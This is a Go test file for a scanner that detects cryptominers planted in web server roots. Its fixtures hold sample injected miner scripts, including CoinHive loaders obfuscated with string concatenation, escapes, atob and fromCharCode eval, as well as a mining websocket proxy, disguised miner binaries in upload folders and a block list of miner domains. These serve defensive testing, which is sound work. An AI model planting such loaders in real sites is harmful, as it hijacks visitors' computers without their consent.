package checks

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/minerguard/minerguard/internal/findings"
	"github.com/minerguard/minerguard/internal/intel"
)

const siteKey = "abcdefghijklmnopqrstuvwxyz012345ABCD"

func TestWebMiner(t *testing.T) {
	cases := []struct {
		name  string
		files map[string]fxFile
		want  []wantFinding
	}{
		{
			name: "classic coinhive page",
			files: map[string]fxFile{"/var/www/html/index.html": {"<html>\n<body>\n<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>\n" +
				"<script>var miner = new CoinHive.Anonymous('" + siteKey + "', {throttle: 0.3}); miner.start();</script>\n", 0}},
			want: []wantFinding{{"files.webminer", findings.High, "/var/www/html/index.html", 3}},
		},
		{
			name:  "concatenation and bracket access, minified",
			files: map[string]fxFile{"/srv/site/a.min.js": {`!function(){var w=window["Coin"+'Hive'];var m=new w["Anon"+"ymous"]("` + siteKey + `");m["start"]()}();`, 0}},
			want:  []wantFinding{{"files.webminer", findings.High, "/srv/site/a.min.js", 1}},
		},
		{
			name:  "hex and unicode escapes",
			files: map[string]fxFile{"/var/www/b.js": {`x=1;` + "\n" + `var m=new CoinHive["\x41non\u0079mous"]('k');`, 0}},
			want:  []wantFinding{{"files.webminer", findings.High, "/var/www/b.js", 2}},
		},
		{
			name: "atob payload in php",
			files: map[string]fxFile{"/var/www/wp/wp-content/themes/t/footer.php": {"<?php wp_footer(); ?>\n<script>eval(atob('" +
				"bmV3IENSTFQuQW5vbnltb3VzKCdzaXRla2V5Jyk7" + "'))</script>\n", 0}},
			want: []wantFinding{{"files.webminer", findings.High, "/var/www/wp/wp-content/themes/t/footer.php", 0}},
		},
		{
			name:  "fromCharCode",
			files: map[string]fxFile{"/var/www/c.js": {`eval(String.fromCharCode(67,111,105,110,72,105,118,101,46,65,110,111,110,121,109,111,117,115,40,39,107,39,41))`, 0}},
			want:  []wantFinding{{"files.webminer", findings.High, "/var/www/c.js", 0}},
		},
		{
			name:  "script from a NoCoin-listed host",
			files: map[string]fxFile{"/usr/share/nginx/html/index.htm": {`<p>hi</p><script src="//authedmine.com/lib/authedmine.min.js"></script>`, 0}},
			want:  []wantFinding{{"files.webminer", findings.High, "/usr/share/nginx/html/index.htm", 1}},
		},
		{
			name: "mining websocket proxy",
			files: map[string]fxFile{"/var/www/w.js": {"var s = new WebSocket('wss://ws.example.net:3333/proxy?pool=xmr.example.org');\nvar o={throttle: 0.5};\n", 0},
				"/var/www/w2.js": {"var s = new WebSocket('wss://ws.example.net:3333/socket');\n", 0}},
			want: []wantFinding{
				{"files.webminer", findings.Medium, "/var/www/w.js", 0},
				{"files.webminer", findings.Low, "/var/www/w2.js", 0},
			},
		},
		{
			name: "cryptonight wasm next to a loader, and alone",
			files: map[string]fxFile{
				"/var/www/m/cryptonight.wasm": {"\x00asm\x01\x00\x00\x00", 0},
				"/var/www/m/loader.js":        {"var m = new CoinHive.User('" + siteKey + "', 'john');", 0},
				"/var/www/x/cryptonight.wasm": {"\x00asm\x01\x00\x00\x00", 0},
			},
			want: []wantFinding{
				{"files.webminer", findings.High, "/var/www/m/loader.js", 1},
				{"files.webminer_wasm", findings.High, "/var/www/m/cryptonight.wasm", 0},
				{"files.webminer_wasm", findings.Medium, "/var/www/x/cryptonight.wasm", 0},
			},
		},
		{
			name: "executables in web root",
			files: map[string]fxFile{
				"/var/www/html/uploads/.cache/php-fpm": {fakeELF(2, minerStrings), 0o755},
				"/var/www/html/uploads/x":              {"@/bin/true", 0o755},
				"/var/www/html/downloads/tool-linux":   {"@/bin/true", 0o644},
				"/var/www/html/downloads/setup.exe":    {fakePE("installer"), 0o644},
			},
			want: []wantFinding{
				{"files.webroot_miner", findings.High, "/var/www/html/uploads/.cache/php-fpm", 0},
				{"files.webroot_executable", findings.Medium, "/var/www/html/uploads/x", 0},
				{"files.webroot_executable", findings.Low, "/var/www/html/downloads/tool-linux", 0},
			},
		},
		{
			name: "roots from nginx and apache configs",
			files: map[string]fxFile{
				"/etc/nginx/sites-enabled/shop": {"server {\n listen 80;\n root /opt/shop/public; # main\n location / { try_files $uri =404; }\n}\n", 0},
				"/etc/apache2/sites-enabled/a":  {"<VirtualHost *:80>\n  DocumentRoot \"/data/www site\"\n</VirtualHost>\n", 0},
				"/opt/shop/public/index.php":    {"<?php echo '<script src=\"https://authedmine.com/lib/a.js\"></script>'; ?>", 0},
				"/data/www site/js/app.js":      {"var miner=new CoinHive.Anonymous('" + siteKey + "');", 0},
			},
			want: []wantFinding{
				{"files.webminer", findings.High, "/opt/shop/public/index.php", 1},
				{"files.webminer", findings.High, "/data/www site/js/app.js", 1},
			},
		},
		{
			name: "ordinary sites stay quiet",
			files: map[string]fxFile{
				// A squoosh-like codec: WebAssembly loaded by its glue code.
				"/var/www/app/codecs/mozjpeg_enc.wasm": {"\x00asm\x01\x00\x00\x00", 0},
				"/var/www/app/codecs/mozjpeg_enc.js": {`var Module=typeof Module!=="undefined"?Module:{};` +
					`WebAssembly.instantiateStreaming(fetch("mozjpeg_enc.wasm"),imports).then(function(r){Module.asm=r.instance.exports});`, 0},
				"/var/www/app/vendor/argon2.wasm":  {"\x00asm\x01\x00\x00\x00", 0},
				"/var/www/app/vendor/hash-wasm.js": {`export function argon2id(o){return WebAssembly.instantiate(bytes)}`, 0},
				"/var/www/app/index.html": {`<script async src="https://www.googletagmanager.com/gtag/js?id=G-ABC123"></script>` +
					"\n<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());gtag('config','G-ABC123');</script>\n" +
					`<script>var _paq=window._paq=window._paq||[];_paq.push(['trackPageView']);(function(){var u="//matomo.example.org/";_paq.push(['setTrackerUrl',u+'matomo.php']);})();</script>`, 0},
				"/var/www/app/lodash.js":   {`function throttle(func, wait, options) { return debounce(func, wait, {leading: true}); } var opts = {throttle: wait};`, 0},
				"/var/www/app/style.css":   {`body{}`, 0},
				"/var/www/app/chat.js":     {`var ws = new WebSocket("wss://chat.example.org/socket");`, 0},
				"/var/www/app/blog/a.html": {"<p>In 2017 many sites were caught running hidden miners.</p>", 0},
				"/var/www/app/blocklist.js": {"var blocked=['coinhive.com','authedmine.com','2giga.link','ad-miner.com','afminer.com','analytics.blue'," +
					"'andlache.com','anybest.pw','api.browsermine.com','api.inwemo.com','as.cfcdist.loan','bmst.pw','cnhv.co','coin-have.com'].map(h=>'https://'+h);", 0},
			},
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			env, _ := filesFixture(t, c.files)
			got := runFileCheck(t, "files.webminer", env)
			checkFindings(t, got, c.want)
		})
	}
}

func TestWebMinerEvidence(t *testing.T) {
	env, _ := filesFixture(t, map[string]fxFile{
		"/var/www/m/cryptonight.wasm": {"\x00asm\x01\x00\x00\x00", 0},
		"/var/www/m/index.html":       {"<script src=\"https://authedmine.com/lib/authedmine.min.js\"></script>", 0},
	})
	got := runFileCheck(t, "files.webminer", env)
	for _, f := range got {
		switch f.Rule {
		case "files.webminer":
			if f.Evidence.Domain != "authedmine.com" || !strings.Contains(f.Evidence.URL, "authedmine.com") || !slices.Contains(f.Evidence.Match, "host:authedmine.com") {
				t.Errorf("webminer evidence %+v", f.Evidence)
			}
		case "files.webminer_wasm":
			if len(f.Evidence.Paths) != 1 || f.Evidence.Paths[0] != "/var/www/m/index.html" || len(f.Evidence.SHA256) != 64 {
				t.Errorf("wasm evidence %+v", f.Evidence)
			}
		}
	}
	if len(got) != 2 {
		t.Errorf("got %d findings", len(got))
	}
}

func TestParseWebRoots(t *testing.T) {
	cases := []struct {
		kind, conf string
		want       []string
	}{
		{"nginx", "http { server { root /a; location /x { root /b/c/; } } }", []string{"/a", "/b/c"}},
		{"nginx", "root $document_root/x;\n# root /commented;\nroot relative;\nroot \"/q\";", []string{"/q"}},
		{"nginx", "proxy_root /no;\nrooted /no;", nil},
		{"apache", "DocumentRoot /var/www/html\n  documentroot \"/srv/a b\"\nDocumentRoot ${APACHE_ROOT}\n#DocumentRoot /x", []string{"/var/www/html", "/srv/a b"}},
	}
	for _, c := range cases {
		if got := parseWebRoots(c.kind, []byte(c.conf)); strings.Join(got, "|") != strings.Join(c.want, "|") {
			t.Errorf("%s %q: got %q want %q", c.kind, c.conf, got, c.want)
		}
	}
}

// TestFilesIntelMatchesNoCoin re-derives the embedded web-miner hosts and
// script paths from the real NoCoin lists in ../shared.
func TestFilesIntelMatchesNoCoin(t *testing.T) {
	dir := filepath.Join("..", "..", "..", "shared", "data", "intel")
	var hosts, paths []string
	for _, n := range []string{"nocoin-hosts.txt", "nocoin-nocoin.txt"} {
		b, err := os.ReadFile(filepath.Join(dir, n))
		if err != nil {
			t.Skipf("NoCoin list not available (%v); the shared reference data lives at ../shared", err)
		}
		h, p := parseNoCoinList(b)
		if len(h) < 50 {
			t.Fatalf("%s: only %d hosts parsed", n, len(h))
		}
		hosts, paths = append(hosts, h...), append(paths, p...)
	}
	slices.Sort(hosts)
	hosts = slices.Compact(hosts)
	slices.Sort(paths)
	paths = slices.Compact(paths)
	fi, err := loadFilesIntel(intel.MustLoad())
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(hosts, fi.Web.Hosts) {
		t.Errorf("files.json webminer.hosts (%d) differ from the NoCoin lists (%d)", len(fi.Web.Hosts), len(hosts))
	}
	if !slices.Equal(paths, fi.Web.ScriptPaths) {
		t.Errorf("files.json webminer.script_paths differ from the NoCoin list:\n got %q\nwant %q", fi.Web.ScriptPaths, paths)
	}
	// Every listed host is found in a page that loads a script from it.
	env, _ := filesFixture(t, nil)
	for _, h := range hosts[:20] {
		a := analyzeWeb(env, fi, []byte(`<script src="https://`+h+`/lib/x.js"></script>`))
		if len(a.hosts) != 1 {
			t.Errorf("host %s not detected: %+v", h, a)
		}
	}
}

func FuzzParseWebRoots(f *testing.F) {
	f.Add("nginx", []byte("server { root /a; }"))
	f.Add("apache", []byte("DocumentRoot \"/x\"\n"))
	f.Fuzz(func(t *testing.T, kind string, b []byte) {
		for _, r := range parseWebRoots(kind, b) {
			if !strings.HasPrefix(r, "/") {
				t.Fatalf("relative root %q", r)
			}
		}
	})
}

func FuzzAnalyzeWeb(f *testing.F) {
	env := NewEnv(nil, intel.MustLoad(), nil, nil)
	fi, err := loadFilesIntel(env.Intel)
	if err != nil {
		f.Fatal(err)
	}
	f.Add([]byte(`new CoinHive["\x41nonymous"]('k'); atob('bmV3') String.fromCharCode(67,111)`))
	f.Add([]byte("wss://a.b:3333/?pool=1 //authedmine.com"))
	f.Fuzz(func(t *testing.T, b []byte) {
		a := analyzeWeb(env, fi, b)
		if a.line < 0 {
			t.Fatal("negative line")
		}
	})
}

func FuzzParseNoCoinList(f *testing.F) {
	f.Add([]byte("0.0.0.0 a.com\n||b.com^$third-party\n/x.js$script\n@@||c.com^\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		hosts, _ := parseNoCoinList(b)
		for _, h := range hosts {
			if !strings.Contains(h, ".") {
				t.Fatalf("host %q", h)
			}
		}
	})
}
